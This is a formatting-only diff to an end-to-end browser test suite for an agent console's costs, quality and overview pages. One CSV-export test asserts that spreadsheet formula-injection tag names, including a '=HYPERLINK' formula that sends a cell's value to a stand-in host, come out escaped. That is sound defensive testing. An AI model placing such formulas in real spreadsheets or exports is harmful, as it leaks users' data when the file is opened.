@@ -19,7 +19,9 @@ const isoDay = (seconds: number) => new Date(seconds * 1000).toISOString().slice
 
 /** A table's rows as a reader sees them: each cell's text, header cells included. */
 const rowsOf = async (table: Locator) =>
-  Promise.all((await table.locator('tr').all()).map(async (row) => (await row.locator('th, td').allTextContents()).map((text) => text.trim())));
+  Promise.all(
+    (await table.locator('tr').all()).map(async (row) => (await row.locator('th, td').allTextContents()).map((text) => text.trim())),
+  );
 
 describe('console: costs, quality and overview', function () {
   this.timeout(240_000);
@@ -85,7 +87,9 @@ describe('console: costs, quality and overview', function () {
     const chart = page.getByRole('img', { name: /Stacked bars of cost per day by agent/ });
     await chart.locator('canvas').waitFor();
     assert.match((await chart.getAttribute('aria-label'))!, /\$0\.125856 in all across 2 groups/);
-    await eventually(async () => assert.equal(await page.evaluate(() => performance.getEntriesByName('agentplane:costs-rendered').length), 1));
+    await eventually(async () =>
+      assert.equal(await page.evaluate(() => performance.getEntriesByName('agentplane:costs-rendered').length), 1),
+    );
     // Its tooltip draws inside the canvas, nothing the CSP would refuse.
     const box = (await chart.boundingBox())!;
     await page.mouse.move(box.x + box.width - 60, box.y + box.height / 2);
@@ -94,12 +98,15 @@ describe('console: costs, quality and overview', function () {
     await totals.getByRole('cell', { name: '0.125056', exact: true }).waitFor();
     // Each agent by its name, and its id linking to it.
     await totals.getByText('helper', { exact: true }).waitFor();
-    assert.deepEqual((await rowsOf(totals)).map((row) => row.slice(0, 3)), [
-      ['Agent', 'Cost (USD)', 'Model requests'],
-      [`geo ${geo.id}`, '0.125056', '3'],
-      [`helper ${helper.id}`, RUN_COST, '1'],
-      ['Total', '0.125856', '4'],
-    ]);
+    assert.deepEqual(
+      (await rowsOf(totals)).map((row) => row.slice(0, 3)),
+      [
+        ['Agent', 'Cost (USD)', 'Model requests'],
+        [`geo ${geo.id}`, '0.125056', '3'],
+        [`helper ${helper.id}`, RUN_COST, '1'],
+        ['Total', '0.125856', '4'],
+      ],
+    );
     // The agent's id is a link to the agent.
     assert.equal(await totals.getByRole('link', { name: geo.id }).getAttribute('href'), `/console/agents/${geo.id}`);
     const buckets = await rowsOf(page.getByRole('table', { name: /Cost per day by agent/ }));
@@ -119,12 +126,15 @@ describe('console: costs, quality and overview', function () {
     await page.waitForURL(/group=model/);
     const byModel = page.getByRole('table', { name: 'Totals by model' });
     await byModel.getByRole('cell', { name: EARLIER_COST, exact: true }).waitFor();
-    assert.deepEqual((await rowsOf(byModel)).map((row) => row.slice(0, 2)), [
-      ['Model', 'Cost (USD)'],
-      ['gpt-4.1-nano', EARLIER_COST],
-      ['gpt-4.1-mini', '0.0024'],
-      ['Total', '0.125856'],
-    ]);
+    assert.deepEqual(
+      (await rowsOf(byModel)).map((row) => row.slice(0, 2)),
+      [
+        ['Model', 'Cost (USD)'],
+        ['gpt-4.1-nano', EARLIER_COST],
+        ['gpt-4.1-mini', '0.0024'],
+        ['Total', '0.125856'],
+      ],
+    );
 
     await page.getByLabel('Group by').selectOption('metadata');
     await page.getByLabel('Tag key').fill('team');
@@ -132,12 +142,15 @@ describe('console: costs, quality and overview', function () {
     await page.waitForURL(/group=metadata\.team/);
     const byTeam = page.getByRole('table', { name: 'Totals by tag team' });
     await byTeam.getByRole('cell', { name: '0.125056', exact: true }).waitFor();
-    assert.deepEqual((await rowsOf(byTeam)).map((row) => row.slice(0, 2)), [
-      ['Tag team', 'Cost (USD)'],
-      ['geo', '0.125056'],
-      ['(none)', RUN_COST],
-      ['Total', '0.125856'],
-    ]);
+    assert.deepEqual(
+      (await rowsOf(byTeam)).map((row) => row.slice(0, 2)),
+      [
+        ['Tag team', 'Cost (USD)'],
+        ['geo', '0.125056'],
+        ['(none)', RUN_COST],
+        ['Total', '0.125856'],
+      ],
+    );
 
     // The URL is a link to the same report.
     await page.reload();
@@ -152,7 +165,10 @@ describe('console: costs, quality and overview', function () {
     const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
     assert.match(download.suggestedFilename(), /^costs-.*-1d-by-model\.csv$/);
     const csv = await readFile((await download.path())!, 'utf8');
-    const lines = csv.trimEnd().split('\r\n').map((line) => line.split(','));
+    const lines = csv
+      .trimEnd()
+      .split('\r\n')
+      .map((line) => line.split(','));
     assert.deepEqual(lines, await rowsOf(table));
     assert.deepEqual(lines.at(-1), ['Total', EARLIER_COST, '0.0024', '0.125856']);
   });
@@ -171,7 +187,10 @@ describe('console: costs, quality and overview', function () {
       await signIn(other.page, hostile.admin.key!);
       await visit(other, `/costs?${range}&group=metadata.team`);
       await other.page.getByRole('table', { name: 'Totals by tag team' }).getByRole('rowheader', { name: 'plain', exact: true }).waitFor();
-      const [download] = await Promise.all([other.page.waitForEvent('download'), other.page.getByRole('button', { name: 'Download CSV' }).click()]);
+      const [download] = await Promise.all([
+        other.page.waitForEvent('download'),
+        other.page.getByRole('button', { name: 'Download CSV' }).click(),
+      ]);
       const header = (await readFile((await download.path())!, 'utf8')).split('\r\n')[0]!;
       // Biggest spend first: the tags in reverse.
       assert.equal(header, `Bucket,plain,'@SUM(A1),'-2+3,'+1,"'=HYPERLINK(""https://example.com/?""&A1)",Total`);
@@ -185,7 +204,12 @@ describe('console: costs, quality and overview', function () {
     const agents = Array.from({ length: 20 }, (_, i) => `agent_wide${String(i).padStart(2, '0')}`);
     // One call per agent and day, agent i paying (i + 1) millionths a day more than on the day before.
     const rows = agents.flatMap((agent, i) =>
-      Array.from({ length: 90 }, (_, d) => ({ id: `usage_wide_${i}_${d}`, agent, cost: `0.${String((i + 1) * (d + 1)).padStart(6, '0')}`, at: today - d * DAY + 3600 })),
+      Array.from({ length: 90 }, (_, d) => ({
+        id: `usage_wide_${i}_${d}`,
+        agent,
+        cost: `0.${String((i + 1) * (d + 1)).padStart(6, '0')}`,
+        at: today - d * DAY + 3600,
+      })),
     );
     await stack.api.services.db.query(
       `INSERT INTO usage_records (id, project_id, source, agent_id, model, provider, price_version, input_tokens, output_tokens, cached_tokens, cost, metadata, created_at)
@@ -198,7 +222,10 @@ describe('console: costs, quality and overview', function () {
       await signIn(other.page, wide.admin.key!);
       await visit(other, `/costs?from=${isoDay(today - 89 * DAY)}&to=${isoDay(today)}`);
       assert.equal(await other.page.getByRole('button', { name: 'Last 90 days' }).getAttribute('aria-pressed'), 'true');
-      await other.page.getByRole('img', { name: /across 20 groups/ }).locator('canvas').waitFor();
+      await other.page
+        .getByRole('img', { name: /across 20 groups/ })
+        .locator('canvas')
+        .waitFor();
       const rendered = await eventually(async () => {
         const marks = await other.page.evaluate(() => performance.getEntriesByName('agentplane:costs-rendered').map((m) => m.startTime));
         assert.equal(marks.length, 1);
@@ -229,12 +256,26 @@ describe('console: costs, quality and overview', function () {
     try {
       await signIn(other.page, empty.admin.key!);
       await visit(other, '/costs');
-      await other.page.getByRole('region', { name: 'No spend in this range' }).getByText(/curl .*\/v1\/analytics\/costs\?start_time=/).waitFor();
+      await other.page
+        .getByRole('region', { name: 'No spend in this range' })
+        .getByText(/curl .*\/v1\/analytics\/costs\?start_time=/)
+        .waitFor();
       await visit(other, '/quality');
-      await other.page.getByRole('region', { name: 'No scored runs in this range' }).getByText(/curl .*\/v1\/analytics\/quality\?start_time=/).waitFor();
+      await other.page
+        .getByRole('region', { name: 'No scored runs in this range' })
+        .getByText(/curl .*\/v1\/analytics\/quality\?start_time=/)
+        .waitFor();
       await visit(other, '/');
-      for (const [title, path] of [['No run ended in the last hour', '/run'], ['No budgets', '/v1/budgets'], ['No files', '/v1/files'], ['No events yet', '/v1/events']]) {
-        await other.page.getByRole('region', { name: title }).getByText(new RegExp(`curl .*${path}`)).waitFor();
+      for (const [title, path] of [
+        ['No run ended in the last hour', '/run'],
+        ['No budgets', '/v1/budgets'],
+        ['No files', '/v1/files'],
+        ['No events yet', '/v1/events'],
+      ]) {
+        await other.page
+          .getByRole('region', { name: title })
+          .getByText(new RegExp(`curl .*${path}`))
+          .waitFor();
       }
       await other.page.locator('.card', { hasText: 'Spent today (UTC)' }).getByText('$0.00').waitFor();
       await assertAccessible(other.page, 'the empty overview');
@@ -246,7 +287,10 @@ describe('console: costs, quality and overview', function () {
 
   it('shows the costs in dark mode, as accessibly', async () => {
     await visit(session, `/costs?${range}`);
-    await page.getByRole('img', { name: /Stacked bars/ }).locator('canvas').waitFor();
+    await page
+      .getByRole('img', { name: /Stacked bars/ })
+      .locator('canvas')
+      .waitFor();
     await page.getByRole('button', { name: 'Dark mode' }).click();
     assert.equal(await page.locator('html').getAttribute('data-theme'), 'dark');
     const box = (await page.getByRole('img', { name: /Stacked bars/ }).boundingBox())!;
@@ -261,7 +305,10 @@ describe('console: costs, quality and overview', function () {
     await page.getByRole('heading', { level: 1, name: 'Quality' }).waitFor();
     const table = page.getByRole('table', { name: /Scores per scorer/ });
     await table.getByRole('rowheader', { name: 'completion', exact: true }).waitFor();
-    await page.getByRole('img', { name: /mean score per day/ }).locator('canvas').waitFor();
+    await page
+      .getByRole('img', { name: /mean score per day/ })
+      .locator('canvas')
+      .waitFor();
     await page.getByRole('img', { name: /mean score per day/ }).hover();
     const scorers = Object.fromEntries((await rowsOf(table)).slice(1).map(([scorer, count, mean]) => [scorer, [count, mean]]));
     assert.deepEqual(scorers.completion, ['4', '0.750']);
@@ -274,7 +321,10 @@ describe('console: costs, quality and overview', function () {
     await page.getByLabel('Verdict').selectOption('thumbs_down');
     await page.getByLabel('Comment (optional)').fill('Not what I asked.');
     await page.getByRole('button', { name: 'Send feedback' }).click();
-    await page.getByRole('status').filter({ hasText: `Recorded human = 0 on ${geoRunId}` }).waitFor();
+    await page
+      .getByRole('status')
+      .filter({ hasText: `Recorded human = 0 on ${geoRunId}` })
+      .waitFor();
     await table.getByRole('rowheader', { name: 'human', exact: true }).waitFor();
     const human = (await rowsOf(table)).find(([scorer]) => scorer === 'human')!;
     assert.deepEqual(human.slice(1, 4), ['1', '0.000', '1']);
@@ -284,9 +334,17 @@ describe('console: costs, quality and overview', function () {
     const byAgent = page.getByRole('table', { name: /Scores per scorer and agent/ });
     await byAgent.getByText('helper', { exact: true }).first().waitFor();
     const completion = (await rowsOf(byAgent)).filter(([scorer]) => scorer === 'completion').map((row) => row.slice(1, 4));
-    assert.deepEqual(completion.sort(), [[`geo ${geo.id}`, '2', '1.000'], [`helper ${helper.id}`, '2', '0.500']].sort());
     assert.deepEqual(
-      run.body.scores.filter((s: { scorer: string }) => s.scorer === 'human').map((s: { value: number; explanation: string }) => [s.value, s.explanation]),
+      completion.sort(),
+      [
+        [`geo ${geo.id}`, '2', '1.000'],
+        [`helper ${helper.id}`, '2', '0.500'],
+      ].sort(),
+    );
+    assert.deepEqual(
+      run.body.scores
+        .filter((s: { scorer: string }) => s.scorer === 'human')
+        .map((s: { value: number; explanation: string }) => [s.value, s.explanation]),
       [[0, 'Not what I asked.']],
     );
   });
